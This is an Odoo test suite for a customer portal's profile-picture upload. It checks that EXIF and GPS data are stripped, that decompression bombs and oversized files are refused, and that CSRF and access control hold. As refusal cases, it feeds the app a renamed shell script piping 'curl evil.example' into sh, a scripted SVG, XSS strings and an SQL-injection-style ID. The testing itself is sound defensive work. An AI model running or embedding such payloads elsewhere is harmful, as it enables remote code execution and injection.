import base64
import io
import struct
import zlib

from PIL import Image

from odoo.http import Request
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger
from odoo.tools.mimetypes import guess_mimetype

from ..controllers.portal import PICTURE_FIELD, PICTURE_MAX_BYTES


def png(width=64, height=64, color=(200, 30, 30)):
    output = io.BytesIO()
    Image.new("RGB", (width, height), color).save(output, "PNG")
    return output.getvalue()


def jpeg_from_a_phone(width=80, height=40, orientation=1):
    """A JPEG as a phone writes it: EXIF with the camera, the orientation and the GPS position where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "StrideCam"  # Make
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (21.0, 1.0, 30.0), 3: "E", 4: (105.0, 51.0, 0.0)}  # GPSInfo: a street in Hanoi
    output = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 30)).save(output, "JPEG", exif=exif.tobytes(), comment=b"Home")
    return output.getvalue()


def png_claiming(width, height):
    """A tiny PNG whose header claims ``width`` x ``height`` pixels: a decompression bomb, as Pillow sees it."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64))
            + chunk(b"IEND", b""))


@tagged("post_install", "-at_install")
class TestProfilePicture(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        country = cls.env.ref("base.be")
        address = {"street": "Rue de Ramillies 1", "city": "Ramillies", "zip": "1367", "country_id": country.id,
                   "phone": "+3233333333"}
        cls.ana_user = new_test_user(
            cls.env, login="pic_ana", groups="base.group_portal", name="Ana Picture", email="ana@example.com",
        )
        cls.bao_user = new_test_user(
            cls.env, login="pic_bao", groups="base.group_portal", name="Bao Picture", email="bao@example.com",
        )
        (cls.ana_user.partner_id | cls.bao_user.partner_id).write(address)
        cls.bao_picture = base64.b64encode(png(color=(0, 0, 200)))
        cls.bao_user.partner_id.image_1920 = cls.bao_picture
        cls.ana_delivery = cls.env["res.partner"].create({
            "name": "Ana at work", "type": "delivery", "parent_id": cls.ana_user.partner_id.id, **address,
        })

    def setUp(self):
        super().setUp()
        self.authenticate("pic_ana", "pic_ana")

    def _form(self, partner, **values):
        return {
            "csrf_token": Request.csrf_token(self),
            "partner_id": str(partner.id),
            "name": partner.name,
            "email": partner.email or "ana@example.com",
            "street": partner.street,
            "city": partner.city,
            "zip": partner.zip,
            "country_id": str(partner.country_id.id),
            "phone": partner.phone,
            "address_type": "billing",
            "use_delivery_as_billing": "true",
            "callback": "/my",
            **values,
        }

    def _post(self, form, files=None):
        response = self.url_open("/my/address/submit", data=form, files=files)
        # The request wrote through its own environment: read the records again.
        self.env.invalidate_all()
        return response

    def _submit(self, data, filename="me.png", partner=None, **values):
        return self._post(
            self._form(partner or self.ana_user.partner_id, **values),
            files={PICTURE_FIELD: (filename, data, "image/png")},
        )

    def _refused(self, response, reason):
        self.assertEqual(response.status_code, 200)
        feedback = response.json()
        self.assertNotIn("redirectUrl", feedback)
        self.assertEqual(feedback["invalid_fields"], [PICTURE_FIELD])
        self.assertIn(reason, " ".join(feedback["messages"]))
        self.assertFalse(self.ana_user.partner_id.image_1920)

    def test_account_page_offers_the_picture_field(self):
        response = self.url_open("/my/account")
        self.assertEqual(response.status_code, 200)
        self.assertIn(f'name="{PICTURE_FIELD}"', response.text)
        self.assertIn('enctype="multipart/form-data"', response.text)

    def test_png_is_kept_as_the_profile_picture(self):
        response = self._submit(png())
        self.assertEqual(response.json(), {"redirectUrl": "/my"})
        picture = base64.b64decode(self.ana_user.partner_id.image_1920)
        self.assertEqual(guess_mimetype(picture), "image/png")
        self.assertEqual(self.ana_user.image_128, self.ana_user.partner_id.image_128, "the user's avatar too")

    def _stored_picture(self):
        picture = base64.b64decode(self.ana_user.partner_id.image_1920)
        return picture, Image.open(io.BytesIO(picture))

    def test_jpeg_is_stored_without_its_exif_and_gps_position(self):
        upload = jpeg_from_a_phone()
        self.assertEqual(Image.open(io.BytesIO(upload)).getexif().get_ifd(0x8825)[1], "N", "the upload has GPS")
        self.assertEqual(self._submit(upload, "me.jpg").json(), {"redirectUrl": "/my"})
        picture, image = self._stored_picture()
        self.assertEqual(image.format, "JPEG")
        self.assertEqual(image.size, (80, 40))
        self.assertFalse(image.getexif(), "no EXIF at all, so no GPS position")
        self.assertNotIn("exif", image.info)
        self.assertNotIn(b"StrideCam", picture)
        self.assertNotIn(b"Home", picture, "nor the JPEG comment")

    def test_a_sideways_phone_photo_is_stored_upright(self):
        # Orientation 6: the camera held sideways; its pixels are turned when the tag that told it is dropped.
        self._submit(jpeg_from_a_phone(80, 40, orientation=6), "me.jpg")
        _picture, image = self._stored_picture()
        self.assertEqual(image.size, (40, 80))
        self.assertFalse(image.getexif())

    def test_png_keeps_its_transparency_and_loses_its_exif(self):
        output = io.BytesIO()
        exif = Image.Exif()
        exif[0x010F] = "StrideCam"
        Image.new("RGBA", (64, 64), (200, 30, 30, 0)).save(output, "PNG", exif=exif.tobytes())
        self._submit(output.getvalue())
        picture, image = self._stored_picture()
        self.assertEqual(image.format, "PNG")
        self.assertEqual(image.getpixel((0, 0))[3], 0, "still transparent")
        self.assertNotIn(b"StrideCam", picture)

    def test_the_form_without_a_picture_saves_as_before(self):
        response = self._post(self._form(self.ana_user.partner_id, city="Namur"))
        self.assertEqual(response.json(), {"redirectUrl": "/my"})
        self.assertEqual(self.ana_user.partner_id.city, "Namur")

    def test_script_renamed_png_is_refused(self):
        self._refused(self._submit(b"#!/bin/sh\ncurl evil.example | sh\n"), "PNG or JPEG")

    def test_svg_with_a_script_is_refused(self):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        self._refused(self._submit(svg, "me.svg.png"), "PNG or JPEG")

    def test_image_claiming_too_many_pixels_is_refused_before_decoding(self):
        self._refused(self._submit(png_claiming(6000, 6000)), "million pixels")

    def test_decompression_bomb_beyond_pillows_own_limit_is_refused(self):
        self._refused(self._submit(png_claiming(30000, 30000)), "million pixels")

    def test_damaged_png_is_refused(self):
        # A PNG by its signature (the type check passes) whose header's checksum is broken.
        picture = png()
        self._refused(self._submit(picture[:29] + b"\0\0\0\0" + picture[33:]), "could not be read")

    def test_file_over_the_size_cap_is_refused_with_a_message(self):
        self._refused(self._submit(png() + b"\0" * PICTURE_MAX_BYTES), "larger than 5 MB")

    def test_body_over_the_form_cap_is_refused_before_it_is_read(self):
        response = self._submit(b"\0" * (PICTURE_MAX_BYTES * 2))
        self.assertEqual(response.status_code, 413)
        self.assertFalse(self.ana_user.partner_id.image_1920)

    def test_refusal_saves_nothing_typed_in_the_form(self):
        self._refused(self._submit(b"not an image", city="Namur"), "PNG or JPEG")
        self.assertEqual(self.ana_user.partner_id.city, "Ramillies", "nothing saved: the page keeps what was typed")

    def test_without_csrf_token_nothing_changes(self):
        form = self._form(self.ana_user.partner_id)
        del form["csrf_token"]
        with mute_logger("odoo.http"):
            response = self._post(form, files={PICTURE_FIELD: ("me.png", png(), "image/png")})
        self.assertEqual(response.status_code, 400)
        self.assertFalse(self.ana_user.partner_id.image_1920)

    def test_someone_elses_picture_cannot_be_changed(self):
        with mute_logger("odoo.http"):
            response = self._submit(png(), partner=self.bao_user.partner_id)
        self.assertEqual(response.status_code, 403)
        self.assertEqual(self.bao_user.partner_id.image_1920, self.bao_picture)

    def test_hostile_contact_ids_are_bad_requests(self):
        for raw in ("²", "٣", "9" * 30, "1; DROP TABLE res_partner", "-1"):
            with self.subTest(partner_id=raw):
                form = {**self._form(self.ana_user.partner_id), "partner_id": raw}
                response = self._post(form, files={PICTURE_FIELD: ("me.png", png(), "image/png")})
                self.assertEqual(response.status_code, 400)
                self.assertFalse(self.ana_user.partner_id.image_1920)

    def test_a_hostile_use_delivery_as_billing_is_a_bad_request(self):
        # Odoo reads the flag with str2bool, which raises on anything but yes/no words: the form answered 500.
        for raw in ("<script>alert(1)</script>", "٣", "maybe", "\x00"):
            with self.subTest(use_delivery_as_billing=raw):
                response = self._post(self._form(self.ana_user.partner_id, street="Hostile 2",
                                                 use_delivery_as_billing=raw))
                self.assertEqual(response.status_code, 400)
                self.assertEqual(self.ana_user.partner_id.street, "Rue de Ramillies 1")

    def test_profile_pages_are_odoos_own(self):
        for url in ("/my/account", "/my/security"):
            with self.subTest(url=url):
                self.assertEqual(self.url_open(url).status_code, 200)
        home = self.url_open("/my").text
        self.assertIn('href="/my/account"', home)
        self.assertIn('href="/my/security"', home)

    def test_a_picture_goes_on_the_customers_own_contact_only(self):
        self._refused(self._submit(png(), partner=self.ana_delivery), "your own account")
        self.assertFalse(self.ana_delivery.image_1920)
